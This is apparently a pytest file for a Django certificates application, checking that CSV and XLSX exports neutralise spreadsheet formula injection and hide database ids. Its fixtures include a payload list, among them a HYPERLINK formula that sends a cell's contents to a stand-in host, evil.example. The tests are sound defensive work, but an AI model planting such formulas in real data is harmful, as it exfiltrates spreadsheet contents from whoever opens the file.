"""What the exports hold: no cell a spreadsheet runs as a formula, no database ids."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from certificates.exports import KINDS
from tests.conftest import Personas
from tests.factories import (
    ActivityFactory,
    DiplomaFactory,
    EnrolmentFactory,
    EntryFactory,
    UserFactory,
)
from tests.support.clients import client_for

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Each way a spreadsheet starts a formula (or, for tab and carriage return, hides one).
DANGEROUS = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def booby_trapped(personas: Personas) -> list:
    """One certified student per dangerous value, in their name and their activity's title."""
    enrolments = []
    for value in DANGEROUS:
        enrolment = EnrolmentFactory(
            student=UserFactory(full_name=value),
            programme=personas.programme_p,
            stage="certified",
            status="completed",
        )
        EntryFactory(
            enrolment=enrolment,
            activity=ActivityFactory(programme=personas.programme_p, title_en=value),
            status="approved",
            decided_at=timezone.now() - datetime.timedelta(days=1),
        )
        DiplomaFactory(enrolment=enrolment)
        enrolments.append(enrolment)
    return enrolments


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


# openpyxl keeps a carriage return in a cell when it writes with lxml and turns it into a line
# feed with the standard library's XML writer (which one depends on what is installed): the
# comparison reads both as a line feed. What matters is the neutralising apostrophe.
IN_XLSX = {"'" + value.replace("\r", "\n") for value in DANGEROUS}


def _as_read(values: Any) -> set[str]:
    return {str(v).replace("\r", "\n") for v in values}


def _xlsx_cells(response: Any) -> list[list[Any]]:
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def _programme_export(personas: Personas, kind: str, fmt: str):
    return client_for(personas.admin_p).get(
        reverse("certificates:programme_export", args=["nursing", kind, fmt])
    )


@pytest.mark.parametrize("kind", KINDS)
def test_no_csv_cell_of_a_programme_export_starts_a_formula(
    booby_trapped, personas: Personas, kind: str
) -> None:
    rows = _csv_rows(_programme_export(personas, kind, "csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + value for value in DANGEROUS}


@pytest.mark.parametrize("kind", KINDS)
def test_every_xlsx_cell_of_a_programme_export_is_plain_text(
    booby_trapped, personas: Personas, kind: str
) -> None:
    rows = _xlsx_cells(_programme_export(personas, kind, "xlsx"))
    cells = [cell for row in rows[1:] for cell in row if cell.value is not None]
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [c for c in cells if str(c.value)[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert _as_read(row[0].value for row in rows[1:]) == IN_XLSX


def test_activity_titles_are_neutralised_in_both_formats(booby_trapped, personas: Personas) -> None:
    rows = _csv_rows(_programme_export(personas, "activities", "csv"))
    title = rows[0].index("Activity")
    assert {row[title] for row in rows[1:]} == {"'" + value for value in DANGEROUS}
    sheet = _xlsx_cells(_programme_export(personas, "activities", "xlsx"))
    assert _as_read(row[title].value for row in sheet[1:]) == IN_XLSX
    assert {row[title].data_type for row in sheet[1:]} == {"s"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", KINDS)
def test_the_central_export_neither_starts_formulas_nor_shows_database_ids(
    booby_trapped, personas: Personas, kind: str, fmt: str
) -> None:
    url = reverse("certificates:overview_export", args=[kind, fmt])
    response = client_for(personas.central).get(url)
    rows: list[list[Any]]
    if fmt == "csv":
        rows = _csv_rows(response)
    else:
        rows = [[c.value for c in row] for row in _xlsx_cells(response)]
    cells = [cell for row in rows[1:] for cell in row if cell is not None]
    assert not [c for c in cells if str(c)[:1] in ("=", "+", "-", "@", "\t", "\r")]
    numbers = [str(row[0]) for row in rows[1:]]
    assert len(numbers) == len(booby_trapped)
    ids = {str(e.pk) for e in booby_trapped}
    assert not ids & set(numbers)
    assert len(set(numbers)) == len(numbers)  # one student, one number


def test_a_student_keeps_one_number_within_an_export_and_another_in_the_next(
    personas: Personas,
) -> None:
    enrolment = EnrolmentFactory(student=UserFactory(), programme=personas.programme_p)
    for _ in range(3):
        EntryFactory(
            enrolment=enrolment,
            activity=ActivityFactory(programme=personas.programme_p),
            status="approved",
            decided_at=timezone.now(),
        )
    url = reverse("certificates:overview_export", args=["activities", "csv"])
    first = _csv_rows(client_for(personas.central).get(url))
    second = _csv_rows(client_for(personas.central).get(url))
    assert first[0][0] == "Student number in this export"
    assert len({row[0] for row in first[1:]}) == 1 and len(first) == 1 + 3
    assert first[1][0] != str(enrolment.pk)
    # A new key each time: two exports cannot be joined on the number.
    assert first[1][0] != second[1][0]
